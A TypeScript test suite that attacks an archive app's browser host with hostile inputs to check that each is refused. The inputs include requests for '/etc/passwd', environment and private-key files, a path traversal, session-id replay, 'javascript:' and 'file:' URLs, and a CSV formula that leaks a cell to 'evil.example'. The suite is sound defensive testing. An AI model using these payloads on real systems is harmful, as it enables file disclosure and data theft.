// What a hostile or careless signed-in user tried against the browser host over real HTTP:
// naming local files, loading a library, using another's upload, replaying session ids.
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startWebHost, type WebHost } from '../../../electron/web/server';
import { jpegScan } from '../../fixtures/scans';
import { must, setUpCore, tempDir } from '../../helpers';

let host: WebHost;
let ctx: Awaited<ReturnType<typeof setUpCore>>;
const renderer = tempDir();
fs.writeFileSync(path.join(renderer, 'index.html'), '<!doctype html><title>ok</title>');

beforeAll(async () => {
  ctx = await setUpCore();
  const { core, admin, byCode } = ctx;
  await must(core.call('users.save', { username: 'vanthu', fullName: 'Văn thư', role: 'records_staff', unitId: byCode('402'), password: 'vanthu-pass-1', active: true, unlock: false }, admin));
  await must(core.call('users.save', { username: 'vanthu2', fullName: 'Văn thư xã khác', role: 'records_staff', unitId: byCode('407'), password: 'vanthu-pass-2', active: true, unlock: false }, admin));
  await must(core.call('users.save', { username: 'kyso', fullName: 'Cán bộ ký', role: 'signing_officer', unitId: byCode('402'), password: 'kyso-pass-123', active: true, unlock: false }, admin));
  host = await startWebHost({ core, rendererDir: renderer });
});
afterAll(async () => {
  await host.close();
  await ctx.core.close();
});

type Reply = { status: number; headers: http.IncomingHttpHeaders; body: string };
function request(p: string, opts: { method?: string; headers?: Record<string, string>; body?: Buffer | string } = {}): Promise<Reply> {
  const url = new URL(p, host.url);
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port: url.port, path: url.pathname + url.search, method: opts.method ?? 'GET', headers: { Host: url.host, ...opts.headers } }, (res) => {
      let body = '';
      res.on('data', (c) => (body += c));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body }));
    });
    req.on('error', reject);
    req.end(opts.body);
  });
}
const bearer = () => ({ Authorization: `Bearer ${host.token}` });
const cookiesOf = (r: Reply) => (r.headers['set-cookie'] ?? []).map((c) => c.split(';')[0]).join('; ');

/** A browser client: keeps the cookies the host sets, like Chromium would. */
function browser() {
  let cookie = '';
  const headers = () => ({ ...bearer(), ...(cookie ? { Cookie: cookie } : {}) });
  const keep = (r: Reply) => {
    if (r.headers['set-cookie']) cookie = cookiesOf(r);
    return r;
  };
  return {
    get cookie() {
      return cookie;
    },
    async api(method: string, payload: unknown = {}) {
      const r = keep(await request(`/api/${method}`, { method: 'POST', headers: { ...headers(), 'Content-Type': 'application/json' }, body: JSON.stringify(payload) }));
      return JSON.parse(r.body);
    },
    async upload(bytes: Buffer) {
      const r = keep(await request('/upload', { method: 'POST', headers: { ...headers(), 'Content-Type': 'application/octet-stream' }, body: bytes }));
      return JSON.parse(r.body);
    },
  };
}
async function signedIn(username: string, password: string) {
  const b = browser();
  expect((await b.api('auth.signIn', { username, password })).ok).toBe(true);
  return b;
}
const incoming = () => fs.readdirSync(path.join(ctx.core.dataDir, 'incoming')).filter((n) => /^[0-9a-f]{32}$/.test(n));

describe('browser host hardening', () => {
  it('takes no upload from a client that has not signed in, and stores nothing', async () => {
    const before = incoming();
    const r = await browser().upload(Buffer.from('\x7fELF not really a library'));
    expect(r).toMatchObject({ ok: false, error: { code: 'NOT_SIGNED_IN' } });
    expect(incoming()).toEqual(before);
  });

  it('never lets a browser client name a file on this machine', async () => {
    const b = await signedIn('vanthu', 'vanthu-pass-1');
    for (const file of ['/etc/passwd', '/proc/self/environ', path.join(ctx.core.dataDir, 'archive.sqlite'), path.join(ctx.core.dataDir, 'keys', 'archive-ed25519.pem'), '/khong/co/tep.csv']) {
      const preview = await b.api('register.preview', { source: { path: file } });
      // the same answer whether or not the file exists: nothing leaks through the error code
      expect(preview).toMatchObject({ ok: false, error: { code: 'LOCAL_PATH_REFUSED' } });
      expect((await b.api('documents.import', { sources: [{ path: file }] })).error.code).toBe('LOCAL_PATH_REFUSED');
    }
  });

  it("keeps an upload to its sender: another user cannot use it, even knowing its id", async () => {
    const a = await signedIn('vanthu', 'vanthu-pass-1');
    const other = await signedIn('vanthu2', 'vanthu-pass-2');
    const up = await a.upload(await jpegScan({ title: 'Của văn thư A' }));
    expect(up.ok).toBe(true);
    const stolen = await other.api('documents.import', { sources: [{ stagedId: up.value.stagedId, name: 'x.jpg' }] });
    expect(stolen).toMatchObject({ ok: false, error: { code: 'UPLOAD_NOT_FOUND' } });
    const own = await a.api('documents.import', { sources: [{ stagedId: up.value.stagedId, name: 'cua-a.jpg' }] });
    expect(own.ok).toBe(true);
    await ctx.core.jobs.idle();
    expect(ctx.core.jobs.get(own.value.jobId)!.outcomes[0].status).toBe('imported');
  });

  it('loads a PKCS#11 library only from the administrator\'s list, never an upload', async () => {
    const officer = await signedIn('kyso', 'kyso-pass-123');
    const up = await officer.upload(Buffer.from('\x7fELF pretend shared library'));
    const uploaded = path.join(ctx.core.dataDir, 'incoming', up.value.stagedId);
    for (const module of [uploaded, '/usr/lib/x86_64-linux-gnu/libc.so.6', '../../incoming/' + up.value.stagedId]) {
      expect((await officer.api('signing.tokens', { module })).error.code).toBe('TOKEN_MODULE_NOT_ALLOWED');
      const sign = await officer.api('signing.sign', { documentIds: [1], appearance: 'invisible', copyForm: 'none', key: { pkcs11: { module, token: 't', pin: '1234' } } });
      expect(sign.ok).toBe(false);
    }
    expect((await officer.api('signing.addModule', { label: 'x', path: uploaded })).error.code).toBe('FORBIDDEN');
    const admin = await signedIn('admin', 'admin-pass-1');
    // even an administrator cannot allow a file inside the app's data (where uploads land)
    expect((await admin.api('signing.addModule', { label: 'x', path: uploaded })).error.code).toBe('TOKEN_MODULE_INVALID');
    expect((await admin.api('signing.addModule', { label: 'x', path: 'relative/lib.so' })).error.code).toBe('TOKEN_MODULE_INVALID');
    const list = await officer.api('signing.modules');
    expect(list.value.every((m: { path: string }) => !m.path.includes(ctx.core.dataDir))).toBe(true);
  });

  it('gives a new session id at sign-in, so an id known before it is worthless', async () => {
    const b = browser();
    await b.api('app.info');
    const before = b.cookie;
    const port = new URL(host.url).port;
    expect(before).toMatch(new RegExp(`^sohoa_client_${port}=[0-9a-f]{48}$`));
    await b.api('auth.signIn', { username: 'vanthu', password: 'vanthu-pass-1' });
    expect(b.cookie).not.toBe(before);
    expect((await b.api('auth.me')).value).toMatchObject({ username: 'vanthu' });
    // the fixated id does not carry the sign-in
    const replay = JSON.parse((await request('/api/auth.me', { method: 'POST', headers: { ...bearer(), Cookie: before, 'Content-Type': 'application/json' }, body: '{}' })).body);
    expect(replay.value).toBeNull();
  });

  it('answers a malformed method name as unknown, not as a server error', async () => {
    const r = await request('/api/%E0%A4%A', { method: 'POST', headers: { ...bearer(), 'Content-Type': 'application/json' }, body: '{}' });
    expect(r.status).toBe(200);
    expect(JSON.parse(r.body).error.code).toBe('UNKNOWN_METHOD');
  });

  it('accepts only http(s) timestamp servers and only real dates', async () => {
    const admin = await signedIn('admin', 'admin-pass-1');
    for (const tsaUrl of ['javascript:alert(1)', 'file:///etc/passwd', 'data:text/plain,x']) expect((await admin.api('signing.setConfig', { tsaUrl })).error.code).toBe('BAD_REQUEST');
    expect((await admin.api('signing.setConfig', { tsaUrl: 'http://tsa.example.vn/tsa' })).ok).toBe(true);
    for (const at of ['2021-02-31', '2021-13-45', '2021-00-10', '2023-02-29']) {
      expect((await admin.api('coverage.report', { at })).error.code).toBe('BAD_REQUEST');
      expect((await admin.api('units.list', { at })).error.code).toBe('BAD_REQUEST');
    }
    expect((await admin.api('coverage.report', { at: '2024-02-29' })).ok).toBe(true);
    const save = await admin.api('register.save', { dossierCode: 'HS-NGAY-SAI', unitId: ctx.byCode('402'), issuedOn: '2021-02-31' });
    expect(save.error.code).toBe('BAD_REQUEST');
  });

  it('writes imported names into the coverage CSV so a spreadsheet never runs them', async () => {
    const admin = await signedIn('admin', 'admin-pass-1');
    for (const [code, name] of [['99001', '=HYPERLINK("http://evil.example/?x="&A1,"Tỉnh")'], ['99002', '+Huyện'], ['99003', '@Xã']])
      expect((await admin.api('units.save', { code, name, level: 'province', kind: null, parentId: null, validFrom: null, validTo: null })).ok).toBe(true);
    const r = await request('/export/coverage.csv?at=2025-06-30', { headers: { ...bearer(), Cookie: admin.cookie } });
    expect(r.status).toBe(200);
    const lines = r.body.split('\r\n');
    for (const [code, name] of [['99001', '=HYPERLINK'], ['99002', '+Huyện'], ['99003', '@Xã']]) {
      const line = lines.find((l) => l.startsWith(`${code},`))!;
      expect(line).toContain(`'${name}`);
      expect(line.split(',').some((cell) => /^"?[=+@]/.test(cell))).toBe(false);
    }
  });

  it('keeps the watched folder per unit and in the administrator\'s hands', async () => {
    const staff = await signedIn('vanthu', 'vanthu-pass-1');
    const dir = tempDir();
    expect((await staff.api('hotfolder.set', { dir, enabled: true, unitId: null, ocr: false })).error.code).toBe('FORBIDDEN');
    const admin = await signedIn('admin', 'admin-pass-1');
    const set = await admin.api('hotfolder.set', { dir, enabled: false, unitId: ctx.byCode('402'), ocr: false });
    expect(set.value).toEqual({ dir: path.resolve(dir), enabled: false, unitId: ctx.byCode('402'), ocr: false, error: null });
    // the owner's account is not shown to anyone
    const seen = await staff.api('hotfolder.get');
    expect(seen.value).toEqual(set.value);
    expect(JSON.stringify(seen)).not.toMatch(/userId/);
    // another unit has a folder of its own (none), and staff cannot read other units'
    const other = await signedIn('vanthu2', 'vanthu-pass-2');
    expect((await other.api('hotfolder.get')).value).toMatchObject({ dir: null, unitId: ctx.byCode('407') });
    expect((await other.api('hotfolder.get', { unitId: ctx.byCode('402') })).error.code).toBe('FORBIDDEN');
    // never the app's own data folder
    expect((await admin.api('hotfolder.set', { dir: ctx.core.dataDir, enabled: true, unitId: null, ocr: false })).error.code).toBe('BAD_REQUEST');
    expect((await admin.api('hotfolder.set', { dir: path.join(ctx.core.dataDir, 'incoming'), enabled: true, unitId: null, ocr: false })).error.code).toBe('BAD_REQUEST');
  });
});
